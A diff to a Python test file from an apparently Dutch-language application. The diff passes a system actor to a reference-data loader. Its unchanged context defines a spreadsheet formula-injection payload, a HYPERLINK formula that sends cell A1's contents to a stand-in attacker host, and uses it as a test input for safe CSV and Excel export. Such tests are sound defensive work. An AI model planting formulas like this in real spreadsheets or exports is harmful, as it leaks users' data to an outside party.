@@ -17,6 +17,7 @@ from openpyxl import load_workbook
 from kompas.accounts.constants import Rol
 from kompas.audit.models import Actie
 from kompas.audit.services import audit_log_create
+from kompas.core.schrijven import SYSTEEM
 from kompas.core.tabular import FORMULE_BEGIN, csv_writer, lees_csv, veilige_cel
 
 HYPERLINK = '=HYPERLINK("http://aanvaller.example/?d="&A1;"klik")'
@@ -77,7 +78,7 @@ def monitor_met_formules(tmp_path):
     from kompas.monitor.models import Codecategorie, Codering, Inzending, Meting, Optie, Vragenlijst
     from kompas.regio.services import referentiedata_laden
 
-    referentiedata_laden()
+    referentiedata_laden(actor=SYSTEEM)
     m = Meting.objects.create(code="m2021", naam="Monitor 2021", jaar=2021)
     m.vragenlijsten.set(Vragenlijst.objects.filter(code__in=["gemeente-2021"]))
     kop = ["respons_id", "organisatie", "gestart_op", "ingediend_op", "volledig", "B1_BELEID", "B1_BELEID_anders", "HELPEND"]
@@ -139,7 +140,7 @@ def test_synthetic_export_writes_free_text_as_text(monkeypatch):
     from kompas.monitor.models import Vragenlijst
     from kompas.regio.services import referentiedata_laden
 
-    referentiedata_laden()
+    referentiedata_laden(actor=SYSTEEM)
     monkeypatch.setattr(synthetisch, "OPEN_TEKSTEN", {})
     monkeypatch.setattr(synthetisch, "ANDERS_TEKSTEN", [CMD])
     lijst = Vragenlijst.objects.get(code="gemeente-2021")
